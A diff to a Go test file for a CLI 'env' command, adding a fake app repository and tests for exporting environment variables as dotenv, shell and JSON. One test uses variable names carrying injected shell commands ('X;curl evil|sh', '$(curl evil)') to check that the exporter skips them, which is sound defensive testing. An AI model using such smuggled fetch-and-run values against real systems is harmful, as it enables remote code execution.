@@ -5,6 +5,8 @@ import (
 	"cf/models"
 	. "github.com/onsi/ginkgo"
 	. "github.com/onsi/gomega"
+	"strings"
+	testapi "testhelpers/api"
 	testassert "testhelpers/assert"
 	testcmd "testhelpers/commands"
 	testconfig "testhelpers/configuration"
@@ -13,22 +15,47 @@ import (
 )
 
 var _ = Describe("Testing with ginkgo", func() {
+	var appRepo *testapi.FakeApplicationRepository
+
+	BeforeEach(func() {
+		appRepo = &testapi.FakeApplicationRepository{
+			ReadEnvResult: models.AppEnvironment{
+				System: map[string]interface{}{
+					"VCAP_SERVICES": map[string]interface{}{
+						"p-mysql": []interface{}{map[string]interface{}{"name": "my-db", "credentials": map[string]interface{}{"port": 3306.0}}},
+					},
+				},
+				Application: map[string]interface{}{
+					"VCAP_APPLICATION": map[string]interface{}{"name": "my-app"},
+				},
+				User: map[string]interface{}{
+					"my-key2": "my-value2",
+					"my-key":  "my-value",
+				},
+				Running: map[string]interface{}{
+					"JAVA_OPTS": "-Xmx512m",
+					"my-key":    "overridden",
+				},
+			},
+		}
+	})
+
 	It("TestEnvRequirements", func() {
 		reqFactory := getEnvDependencies()
 
 		reqFactory.LoginSuccess = true
-		callEnv([]string{"my-app"}, reqFactory)
+		callEnv([]string{"my-app"}, reqFactory, appRepo)
 		Expect(testcmd.CommandDidPassRequirements).To(BeTrue())
 		Expect(reqFactory.ApplicationName).To(Equal("my-app"))
 
 		reqFactory.LoginSuccess = false
-		callEnv([]string{"my-app"}, reqFactory)
+		callEnv([]string{"my-app"}, reqFactory, appRepo)
 		Expect(testcmd.CommandDidPassRequirements).To(BeFalse())
 	})
 	It("TestEnvFailsWithUsage", func() {
 
 		reqFactory := getEnvDependencies()
-		ui := callEnv([]string{}, reqFactory)
+		ui := callEnv([]string{}, reqFactory, appRepo)
 
 		Expect(ui.FailedWithUsage).To(BeTrue())
 		Expect(testcmd.CommandDidPassRequirements).To(BeFalse())
@@ -36,40 +63,123 @@ var _ = Describe("Testing with ginkgo", func() {
 	It("TestEnvListsEnvironmentVariables", func() {
 
 		reqFactory := getEnvDependencies()
-		reqFactory.Application.EnvironmentVars = map[string]string{
-			"my-key":  "my-value",
-			"my-key2": "my-value2",
-		}
-
-		ui := callEnv([]string{"my-app"}, reqFactory)
+		ui := callEnv([]string{"my-app"}, reqFactory, appRepo)
 
+		Expect(appRepo.ReadEnvAppGuid).To(Equal("my-app-guid"))
 		testassert.SliceContains(ui.Outputs, testassert.Lines{
 			{"Getting env variables for app", "my-app", "my-org", "my-space", "my-user"},
 			{"OK"},
-			{"my-key", "my-value", "my-key2", "my-value2"},
+			{"System-Provided:"},
+			{"VCAP_APPLICATION: {"},
+			{`"name": "my-app"`},
+			{"VCAP_SERVICES: {"},
+			{`"p-mysql": [`},
+			{`"port": 3306`},
+			{"User-Provided:"},
+			{"my-key: my-value"},
+			{"my-key2: my-value2"},
+			{"Running Environment Variable Groups:"},
+			{"JAVA_OPTS: -Xmx512m"},
+			{"my-key: overridden"},
+			{"No staging env variables have been set"},
 		})
 	})
 	It("TestEnvShowsEmptyMessage", func() {
 
 		reqFactory := getEnvDependencies()
-		reqFactory.Application.EnvironmentVars = map[string]string{}
+		appRepo.ReadEnvResult = models.AppEnvironment{}
 
-		ui := callEnv([]string{"my-app"}, reqFactory)
+		ui := callEnv([]string{"my-app"}, reqFactory, appRepo)
 
 		testassert.SliceContains(ui.Outputs, testassert.Lines{
 			{"Getting env variables for app", "my-app"},
 			{"OK"},
-			{"No env variables exist"},
+			{"No system-provided env variables have been set"},
+			{"No user-defined env variables have been set"},
+			{"No running env variables have been set"},
+			{"No staging env variables have been set"},
+		})
+	})
+	It("fails when the env cannot be read", func() {
+		appRepo.ReadEnvErr = true
+
+		ui := callEnv([]string{"my-app"}, getEnvDependencies(), appRepo)
+
+		testassert.SliceContains(ui.Outputs, testassert.Lines{{"FAILED"}, {"Error reading env."}})
+	})
+
+	Describe("exporting the env", func() {
+		It("exports the variables the app runs with as dotenv", func() {
+			appRepo.ReadEnvResult.User["QUOTED"] = "say \"$HOME\"\nback\\slash"
+
+			ui := callEnv([]string{"--export", "dotenv", "my-app"}, getEnvDependencies(), appRepo)
+
+			Expect(strings.Join(ui.Outputs, "\n")).To(Equal(strings.Join([]string{
+				`JAVA_OPTS="-Xmx512m"`,
+				`QUOTED="say \"\$HOME\"\nback\\slash"`,
+				`VCAP_APPLICATION="{\"name\":\"my-app\"}"`,
+				`VCAP_SERVICES="{\"p-mysql\":[{\"credentials\":{\"port\":3306},\"name\":\"my-db\"}]}"`,
+				`# Skipped "my-key", it is not a valid variable name`,
+				`# Skipped "my-key2", it is not a valid variable name`,
+			}, "\n")))
+		})
+
+		It("exports the variables as shell commands", func() {
+			appRepo.ReadEnvResult.User["QUOTED"] = "it's"
+
+			ui := callEnv([]string{"--export", "shell", "my-app"}, getEnvDependencies(), appRepo)
+
+			testassert.SliceContains(ui.Outputs, testassert.Lines{
+				{`export JAVA_OPTS='-Xmx512m'`},
+				{`export QUOTED='it'\''s'`},
+				{`export VCAP_APPLICATION='{"name":"my-app"}'`},
+			})
+		})
+
+		It("skips variables whose names a shell would run as commands", func() {
+			appRepo.ReadEnvResult.User["X;curl evil|sh"] = "value"
+			appRepo.ReadEnvResult.User["Y\n$(curl evil)"] = "value"
+
+			for _, format := range []string{"shell", "dotenv"} {
+				ui := callEnv([]string{"--export", format, "my-app"}, getEnvDependencies(), appRepo)
+
+				for _, line := range ui.Outputs {
+					Expect(strings.Contains(line, "curl") && !strings.HasPrefix(line, "# Skipped")).To(BeFalse())
+				}
+				testassert.SliceContains(ui.Outputs, testassert.Lines{
+					{`# Skipped "X;curl evil|sh", it is not a valid variable name`},
+					{`# Skipped "Y\n$(curl evil)", it is not a valid variable name`},
+				})
+			}
+		})
+
+		It("exports the variables as JSON", func() {
+			ui := callEnv([]string{"--export", "json", "my-app"}, getEnvDependencies(), appRepo)
+
+			Expect(strings.Join(ui.Outputs, "\n")).To(Equal(`{
+  "JAVA_OPTS": "-Xmx512m",
+  "VCAP_APPLICATION": "{\"name\":\"my-app\"}",
+  "VCAP_SERVICES": "{\"p-mysql\":[{\"credentials\":{\"port\":3306},\"name\":\"my-db\"}]}",
+  "my-key": "my-value",
+  "my-key2": "my-value2"
+}`))
+		})
+
+		It("fails with an unknown format", func() {
+			ui := callEnv([]string{"--export", "yaml", "my-app"}, getEnvDependencies(), appRepo)
+
+			testassert.SliceContains(ui.Outputs, testassert.Lines{{"FAILED"}, {"Unknown export format yaml"}})
+			Expect(appRepo.ReadEnvAppGuid).To(Equal(""))
 		})
 	})
 })
 
-func callEnv(args []string, reqFactory *testreq.FakeReqFactory) (ui *testterm.FakeUI) {
+func callEnv(args []string, reqFactory *testreq.FakeReqFactory, appRepo *testapi.FakeApplicationRepository) (ui *testterm.FakeUI) {
 	ui = &testterm.FakeUI{}
 	ctxt := testcmd.NewContext("env", args)
 
 	configRepo := testconfig.NewRepositoryWithDefaults()
-	cmd := NewEnv(ui, configRepo)
+	cmd := NewEnv(ui, configRepo, appRepo)
 	testcmd.RunCommand(cmd, ctxt, reqFactory)
 
 	return
@@ -78,6 +188,7 @@ func callEnv(args []string, reqFactory *testreq.FakeReqFactory) (ui *testterm.Fa
 func getEnvDependencies() (reqFactory *testreq.FakeReqFactory) {
 	app := models.Application{}
 	app.Name = "my-app"
+	app.Guid = "my-app-guid"
 	reqFactory = &testreq.FakeReqFactory{LoginSuccess: true, Application: app}
 	return
 }